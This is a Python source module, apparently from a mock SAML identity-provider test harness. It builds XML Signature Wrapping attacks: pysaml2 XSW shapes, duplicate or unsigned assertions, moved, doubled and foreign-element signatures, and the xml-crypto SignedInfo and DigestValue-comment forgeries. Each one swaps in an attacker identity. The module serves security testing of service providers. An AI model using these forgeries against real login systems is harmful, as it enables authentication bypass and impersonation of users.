"""Other see-what-is-signed attacks: pysaml2's XSW fixtures, duplicate IDs, a second assertion, misplaced signatures.

Sources: pysaml2 ``tests/xsw/*.xml`` (CVE-2020-5390, CVE-2021-21238), SAMLRaider
``CVE_2022_41912.java``, python3-saml ``wrapped_response_2`` (a signature over another element), xml-crypto
CVE-2025-29774 (two SignedInfo) and CVE-2025-29775 (a comment inside DigestValue).
"""

from __future__ import annotations

import copy

from cryptography.hazmat.primitives.serialization import Encoding
from lxml import etree

from mock_idp.attacks.common import (
    EVIL_ASSERTION_ID,
    EVIL_RESPONSE_ID,
    clone_without_signature,
    first_assertion,
    make_evil,
)
from mock_idp.attacks.dsig import (
    SigningKey,
    direct_signature,
    ds,
    insert_after_issuer,
    reference_digest,
    remove,
    sign_enveloped,
    x509_key_info,
)
from mock_idp.op_registry import OpContext, op
from saml_xmlns import MD, SAML, SAMLP, q


def _signature_of(element: etree._Element, what: str) -> etree._Element:
    signature = direct_signature(element)
    if signature is None:
        raise ValueError(f"{what}: the {etree.QName(element).localname} is not signed in this baseline")
    return signature


def _assertion_root(root: etree._Element) -> etree._Element:
    assertion = root.find(q(SAML, "Assertion"))
    if assertion is None:
        raise ValueError("the response has no saml2:Assertion child")
    return assertion


def _point_at_self(signature: etree._Element, element: etree._Element) -> None:
    reference = signature.find(f"{ds('SignedInfo')}/{ds('Reference')}")
    if reference is not None:
        reference.set("URI", f"#{element.get('ID')}")


def _shape_unknown_wrapper(root: etree._Element, ctx: OpContext, evil: str | None) -> None:
    original = _assertion_root(root)
    signature = _signature_of(original, "unknown_wrapper")
    evil_assertion = copy.deepcopy(original)
    make_evil(evil_assertion, ctx, evil)
    evil_assertion.set("ID", EVIL_ASSERTION_ID)
    original.addprevious(evil_assertion)
    remove(signature)
    wrapper = etree.SubElement(root, "XSW_ATTACK")
    wrapper.append(original)


def _shape_extensions(root: etree._Element, ctx: OpContext, evil: str | None) -> None:
    original = _assertion_root(root)
    _signature_of(original, "extensions")
    evil_assertion = copy.deepcopy(original)
    make_evil(evil_assertion, ctx, evil)
    evil_assertion.set("ID", EVIL_ASSERTION_ID)
    remove(_signature_of(original, "extensions"))
    extensions = etree.Element(q(SAMLP, "Extensions"))
    status = root.find(q(SAMLP, "Status"))
    (status if status is not None else original).addprevious(extensions)
    original.addprevious(evil_assertion)
    extensions.append(original)


def _shape_assertion_in_assertion(root: etree._Element, ctx: OpContext, evil: str | None) -> None:
    original = _assertion_root(root)
    _signature_of(original, "assertion_in_assertion")
    evil_assertion = copy.deepcopy(original)
    make_evil(evil_assertion, ctx, evil)
    evil_assertion.set("ID", EVIL_ASSERTION_ID)
    remove(_signature_of(original, "assertion_in_assertion"))
    original.addprevious(evil_assertion)
    evil_assertion.append(original)


def _shape_first_sig_assertion(root: etree._Element, ctx: OpContext, evil: str | None) -> None:
    original = _assertion_root(root)
    _signature_of(original, "first_sig_assertion")
    outer = copy.deepcopy(original)
    make_evil(outer, ctx, evil)
    outer.set("ID", EVIL_ASSERTION_ID)
    _point_at_self(_signature_of(outer, "first_sig_assertion"), outer)
    original.addprevious(outer)
    outer.insert(0, original)


def _shape_first_sig_response(root: etree._Element, ctx: OpContext, evil: str | None) -> None:
    _signature_of(root, "first_sig_response")
    inner = copy.deepcopy(root)
    make_evil(root, ctx, evil)
    root.set("ID", EVIL_RESPONSE_ID)
    _point_at_self(_signature_of(root, "first_sig_response"), root)
    assertion = _assertion_root(root)
    assertion.set("ID", EVIL_ASSERTION_ID)
    signature = direct_signature(assertion)
    if signature is not None:
        remove(signature)
    root.insert(0, inner)


_SHAPES = {
    "unknown_wrapper": _shape_unknown_wrapper,
    "extensions": _shape_extensions,
    "assertion_in_assertion": _shape_assertion_in_assertion,
    "first_sig_assertion": _shape_first_sig_assertion,
    "first_sig_response": _shape_first_sig_response,
}


@op("pysaml2_xsw", stages=("post_sign",))
def pysaml2_xsw(root: etree._Element, ctx: OpContext, shape: str, evil: str | None = None) -> None:
    """Rebuild one of pysaml2's XSW fixture shapes from this response (``shape``: see ``_SHAPES``)."""
    if shape not in _SHAPES:
        raise ValueError(f"pysaml2_xsw: shape must be one of {sorted(_SHAPES)}, got {shape!r}")
    _SHAPES[shape](root, ctx, evil)


@op("duplicate_id", stages=("post_sign",))
def duplicate_id(root: etree._Element, ctx: OpContext, position: str = "after", evil: str | None = None) -> None:
    """Add an unsigned, evil copy of the assertion with the SAME ID before or after it (SAML core 1.3.4)."""
    if position not in ("before", "after"):
        raise ValueError(f"duplicate_id: position must be before or after, got {position!r}")
    assertion = first_assertion(root)
    copy_ = clone_without_signature(assertion)
    make_evil(copy_, ctx, evil)
    (assertion.addprevious if position == "before" else assertion.addnext)(copy_)


@op("add_unsigned_assertion", stages=("post_sign",))
def add_unsigned_assertion(
    root: etree._Element, ctx: OpContext, position: str = "after", evil: str | None = None
) -> None:
    """Add a second, unsigned assertion (ID + ``_attack``, evil identity) before or after the signed one."""
    if position not in ("before", "after"):
        raise ValueError(f"add_unsigned_assertion: position must be before or after, got {position!r}")
    assertion = first_assertion(root)
    extra = clone_without_signature(assertion)
    extra.set("ID", f"{assertion.get('ID')}_attack")
    make_evil(extra, ctx, evil)
    (assertion.addprevious if position == "before" else assertion.addnext)(extra)


@op("move_signature", stages=("post_sign",))
def move_signature(root: etree._Element, ctx: OpContext, source: str, to: str) -> None:
    """Move the ``source`` element's signature onto ``to`` (Response/Assertion): it then signs another element."""
    places = {"response": root, "assertion": _assertion_root(root)}
    if source not in places or to not in places or source == to:
        raise ValueError(f"move_signature: source and to must differ, each response or assertion ({source}, {to})")
    signature = _signature_of(places[source], "move_signature")
    displaced = direct_signature(places[to])
    remove(signature)
    if displaced is not None:
        remove(displaced)
    insert_after_issuer(places[to], signature)


@op("sign_twice", stages=("post_sign",))
def sign_twice(root: etree._Element, ctx: OpContext, target: str = "response") -> None:
    """Okta's key signs the ``target`` (response | assertion) a second time, over its first signature.

    The new signature goes first and covers the element with the old one in it, so it verifies; the old one no
    longer does (its digest now includes the new signature). Which one does the SP check? JustCall takes exactly
    one enveloped signature per element: two make the response ambiguous, where wrapping variants start.
    """
    element = {"response": root, "assertion": root.find(q(SAML, "Assertion"))}.get(target)
    if element is None:
        raise ValueError(f"sign_twice: target must be response or assertion (present), got {target!r}")
    if ctx.credential is None:
        raise ValueError("sign_twice needs the IdP credential in the op context")
    _signature_of(element, "sign_twice")
    key_info = x509_key_info(ctx.credential.certificate.public_bytes(Encoding.DER))
    sign_enveloped(root, element, SigningKey(rsa_key=ctx.credential.private_key), key_info)


@op("sign_foreign_element", stages=("post_sign",))
def sign_foreign_element(root: etree._Element, ctx: OpContext, evil: str | None = None) -> None:
    """Strip the real signatures and carry a genuine IdP signature over an embedded md:EntityDescriptor instead.

    python3-saml ``wrapped_response_2``: the response holds a valid signature by the trusted key, but over an
    element that is neither the Response nor the Assertion.
    """
    if ctx.credential is None:
        raise ValueError("sign_foreign_element needs the IdP credential in the op context")
    for signature in list(root.iter(ds("Signature"))):
        remove(signature)
    make_evil(_assertion_root(root), ctx, evil)
    extensions = etree.Element(q(SAMLP, "Extensions"))
    status = root.find(q(SAMLP, "Status"))
    (status if status is not None else root[0]).addprevious(extensions)
    descriptor = etree.SubElement(extensions, q(MD, "EntityDescriptor"), nsmap={"md": MD})
    descriptor.set("ID", "_signed_metadata")
    descriptor.set("entityID", ctx.idp_issuer)
    credential = ctx.credential
    key_info = x509_key_info(credential.certificate.public_bytes(Encoding.DER))
    sign_enveloped(root, descriptor, SigningKey(rsa_key=credential.private_key), key_info)


@op("add_signed_info", stages=("post_sign",))
def add_signed_info(root: etree._Element, ctx: OpContext, wrapped: bool = False, evil: str | None = None) -> None:
    """xml-crypto CVE-2025-29774: a second SignedInfo (digest of an evil assertion) beside the genuine one.

    The genuine signature moves into an evil assertion (new ID) placed first; the original assertion, without
    its signature, goes into an unknown ``<a>`` wrapper at the end, so the genuine SignedInfo still verifies.
    ``wrapped`` nests the attacker's SignedInfo in a ``<WRAPPER>`` element inside the Signature.
    """
    original = _assertion_root(root)
    signature = _signature_of(original, "add_signed_info")
    evil_assertion = copy.deepcopy(original)
    make_evil(evil_assertion, ctx, evil)
    evil_assertion.set("ID", EVIL_ASSERTION_ID)
    remove(signature)
    original.addprevious(evil_assertion)
    etree.SubElement(root, "a").append(original)
    moved = _signature_of(evil_assertion, "add_signed_info")
    genuine = moved.find(ds("SignedInfo"))
    assert genuine is not None
    forged = copy.deepcopy(genuine)
    reference = forged.find(ds("Reference"))
    if reference is None:
        raise ValueError("add_signed_info: the SignedInfo has no Reference")
    reference.set("URI", f"#{EVIL_ASSERTION_ID}")
    if wrapped:
        etree.SubElement(moved, "WRAPPER").append(forged)
    else:
        genuine.addnext(forged)
    value = reference.find(ds("DigestValue"))
    assert value is not None
    value.text = reference_digest(root, reference, moved)


@op("digest_comment", stages=("post_sign",))
def digest_comment(root: etree._Element, ctx: OpContext, evil: str | None = None) -> None:
    """xml-crypto CVE-2025-29775: evil edits, and ``<DigestValue><!--D_evil-->D_orig</DigestValue>``.

    Exclusive c14n drops the comment, so the SignatureValue still verifies; a verifier that reads the
    DigestValue's first child (the comment) sees a digest that matches the edited assertion.
    """
    assertion = _assertion_root(root)
    signature = _signature_of(assertion, "digest_comment")
    make_evil(assertion, ctx, evil)
    reference = signature.find(f"{ds('SignedInfo')}/{ds('Reference')}")
    value = None if reference is None else reference.find(ds("DigestValue"))
    if reference is None or value is None:
        raise ValueError("digest_comment: the assertion signature has no DigestValue")
    forged = reference_digest(root, reference, signature)
    original = value.text
    value.text = None
    comment = etree.Comment(forged)
    comment.tail = original
    value.append(comment)
